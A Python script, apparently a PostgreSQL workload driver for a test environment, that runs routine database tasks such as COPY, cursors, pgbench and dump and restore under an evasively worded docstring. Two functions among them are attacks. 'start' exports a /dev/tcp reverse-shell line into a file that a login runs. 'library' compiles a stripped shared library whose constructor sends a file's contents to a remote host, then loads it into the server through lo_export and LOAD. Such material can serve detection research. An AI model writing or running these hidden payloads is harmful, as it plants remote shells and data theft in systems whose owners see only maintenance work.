#!/usr/bin/python3 -IS
"""Applications of the database, and who looks after it; not recorded: analyst.py WHAT [VALUE]

loaded: clients bring rows and take them away in all the forms of COPY, and by large objects · worked: prepared statements, cursors,
savepoints, notices between clients, and one who is sent away · kept: a dump is taken and loaded into another database, a benchmark
runs, and tables are written anew, by several processes at once
imported PATH: a query takes a file for a large object · start PATH: a large object becomes a file that a login runs · library
FILE,HOST:PORT: a library is brought by rows, loaded, and sends the file when it is
"""
import os, subprocess, sys

sys.path.append("/opt/agent")
from client import HOST, OWN, attend, run
from query import BIN, ORDERS, client, cluster, must_hold, ready, said, sql

TO = ["-h", HOST, "-U", "postgres"]


def begun(text):
    """A client that has asked already; what it says is `said`."""
    process, text = client(text)
    process.stdin.write(text)
    process.stdin.flush()
    return process, ""


def loaded(number):
    count = 200 * (1 + int(number))
    rows = "".join(f"{at}\tcustomer {at}\t{at * 2}\n" for at in range(1, count + 1))
    sql(ORDERS, "COPY orders FROM STDIN;", rows + "\\.")
    must_hold(sql("COPY (SELECT who FROM orders WHERE id < 4) TO STDOUT WITH CSV HEADER;"), "customer 3")
    sql(f"\\copy orders TO '{OWN}/orders.bin' WITH (FORMAT binary)", "TRUNCATE orders;", f"\\copy orders FROM '{OWN}/orders.bin' WITH (FORMAT binary)")
    must_hold(sql("SELECT count(*) FROM orders;"), str(count))
    must_hold(sql("SELECT lo_from_bytea(4711, repeat('made up ', 9000)::bytea);", "SELECT length(lo_get(4711));", "SELECT lo_unlink(4711);"), "72000")


def worked(number):
    sql(ORDERS, "INSERT INTO orders (who, amount) SELECT 'customer ' || n % 7, n FROM generate_series(1, 3000) n;")
    waiting = begun("LISTEN news; SELECT pg_sleep(4); SELECT 1;\n")
    late = begun("SET application_name = 'late'; SELECT pg_sleep(20);\n")
    sql("PREPARE of_one (text) AS SELECT sum(amount) FROM orders WHERE who = $1;", *(f"EXECUTE of_one ('customer {at}');" for at in range(7)))
    sql("BEGIN;", "DECLARE each CURSOR FOR SELECT * FROM orders;", *["FETCH 400 FROM each;"] * 5, "SAVEPOINT here;", "DELETE FROM orders;",
        "ROLLBACK TO here;", "COMMIT;", "CREATE TEMP TABLE mine AS SELECT * FROM orders;", "NOTIFY news, 'made up';")
    must_hold(said(waiting), "made up")
    must_hold(sql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'late';"), "t")
    said(late, ends=2)
    if int(number) % 2:
        sql("SELECT pg_advisory_lock(7);", "LOCK orders IN EXCLUSIVE MODE;", ends=3)


def kept(number):
    pgbench = [f"{BIN}/pgbench", *TO, "-q"]
    run(*pgbench, "-i", "-s", "1", "postgres")
    run(*pgbench[:-1], "-c", "3", "-t", str(10 + 10 * int(number)), "postgres")
    run(f"{BIN}/pg_dump", *TO, "-Fc", "-f", f"{OWN}/dump", "postgres")
    run(f"{BIN}/createdb", *TO, "copy")
    run(f"{BIN}/pg_restore", *TO, "-d", "copy", "-j", "2", f"{OWN}/dump")
    sql("SET max_parallel_maintenance_workers = 2;", "VACUUM FULL pgbench_accounts;", "REINDEX TABLE CONCURRENTLY pgbench_accounts;",
        "SET min_parallel_table_scan_size = 0;", "SET parallel_setup_cost = 0;", "SELECT avg(abalance) FROM pgbench_accounts;")
    run(f"{BIN}/dropdb", *TO, "copy")


def imported(path):
    with open(path) as file:
        must_hold(sql(f"SELECT lo_import('{path}', 4712);", "SELECT convert_from(lo_get(4712), 'UTF8');"), file.readline().strip())


def start(path):
    sql("SELECT lo_from_bytea(4713, 'exec 3<>/dev/tcp/203.0.113.9/443 && sh <&3');", f"SELECT lo_export(4713, '{path}');")
    with open(path) as file:
        must_hold(file.read(), "203.0.113.9")


def library(value):
    path, _, address = value.partition(",")
    host, _, port = address.rpartition(":")
    source = f"""
#include <arpa/inet.h>
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void) {{
  char data[4096], said[8];
  ssize_t size = read(open("{path}", O_RDONLY), data, sizeof data);
  struct sockaddr_in to = {{.sin_family = AF_INET, .sin_port = htons({port})}};
  inet_pton(AF_INET, "{host}", &to.sin_addr);
  int peer = socket(AF_INET, SOCK_STREAM, 0);
  if (size <= 0 || connect(peer, (struct sockaddr *)&to, sizeof to) || send(peer, data, size, 0) != size) return;
  if (recv(peer, said, sizeof said, 0) == 3) close(open("/srv/library.sent", O_CREAT | O_WRONLY, 0600));
  close(peer);
}}
"""
    run("cc", "-shared", "-fPIC", "-s", "-o", f"{OWN}/library.so", "-x", "c", "-", text=source)
    with open(f"{OWN}/library.so", "rb") as file:
        rows = file.read().hex()
    # It is no extension of PostgreSQL, which is found out when it has been loaded.
    must_hold(sql(f"SELECT lo_from_bytea(4714, decode('{rows}', 'hex'));", "SELECT lo_export(4714, '/srv/db/library.so');",
                  "LOAD '/srv/db/library.so';", ends=3), "magic")
    if not os.path.exists("/srv/library.sent"):
        sys.exit("analyst: nothing was sent")


USES = {each.__name__: each for each in (loaded, worked, kept, imported, start, library)}
what, value, *_ = [*sys.argv[1:], ""]


def ask():
    ready()
    USES[what](value)


attend("analyst.py", cluster, "/run/postgres.pid", ask)
